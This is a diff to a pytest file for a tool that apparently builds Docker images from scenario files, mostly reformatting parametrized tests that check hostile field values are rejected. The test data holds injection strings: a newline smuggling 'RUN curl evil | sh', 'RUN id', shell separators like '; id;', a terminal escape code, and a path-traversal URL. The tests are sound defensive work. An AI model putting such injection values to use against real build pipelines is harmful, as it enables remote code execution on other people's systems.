@@ -149,15 +149,27 @@ def test_a_warm_build_never_edits_a_file_outside_its_context(tmp_path):
 @pytest.mark.parametrize(
     "old,new,key,value",
     [
-        ("command = 'make CC=\"$CC\"'", 'command = "make\\nRUN curl evil | sh"', "build.command",
-         "RUN curl evil"),
-        ('"build/t" = "/usr/local/bin/t"', '"build/t" = "/t\\nRUN id"', "artifacts.build/t",
-         "RUN id"),
+        (
+            "command = 'make CC=\"$CC\"'",
+            'command = "make\\nRUN curl evil | sh"',
+            "build.command",
+            "RUN curl evil",
+        ),
+        (
+            '"build/t" = "/usr/local/bin/t"',
+            '"build/t" = "/t\\nRUN id"',
+            "artifacts.build/t",
+            "RUN id",
+        ),
         ('OPT = "-O2"', 'OPT = "x\\"; id; \\""', "build.env.OPT", "id;"),
         ('"make", "libc6-dev"', '"make; id", "libc6-dev"', "toolchain.packages", "make; id"),
         ('expect = "arch={arch}"', 'expect = "a\\u001b[31m"', "smoke.expect", "\\x1b"),
-        ('name = "hostile"', 'name = "hostile"\nbase_image = "debian AS x\\nRUN id"',
-         "base_image", "RUN id"),
+        (
+            'name = "hostile"',
+            'name = "hostile"\nbase_image = "debian AS x\\nRUN id"',
+            "base_image",
+            "RUN id",
+        ),
     ],
     ids=["command-newline", "artifact-newline", "env-quote", "package-shell", "escape", "base"],
 )
@@ -187,9 +199,7 @@ def test_empty_values_are_errors(capsys, tmp_path):
 
 
 def test_a_continued_command_is_one_dockerfile_line(tmp_path):
-    text = GOOD.replace(
-        "command = 'make CC=\"$CC\"'", "command = '''\nmake \\\n  CC=\"$CC\"\n'''"
-    )
+    text = GOOD.replace("command = 'make CC=\"$CC\"'", "command = '''\nmake \\\n  CC=\"$CC\"\n'''")
     s = load_scenario_file(scenario_dir(tmp_path, text))
     assert s.build_command == 'make   CC="$CC"'
 
@@ -413,3 +423,9 @@ def test_show_prints_stored_markup_as_text(capsys, tmp_path):
     assert main(["show", "run1", "--results", str(tmp_path)]) == 0
     out = capsys.readouterr().out
     assert "[red]evil[/red]" in out and "[blink]done[/blink]" in out
+
+
+def test_a_download_s_cached_name_stays_in_the_cache():
+    assert sources.cache_name("http://x/..") == "download"
+    assert sources.cache_name("http://x/a/..%2F..%2Fetc") == "_2F.._2Fetc"
+    assert sources.cache_name("http://x/zlib_1.2.13.orig.tar.gz") == "zlib_1.2.13.orig.tar.gz"
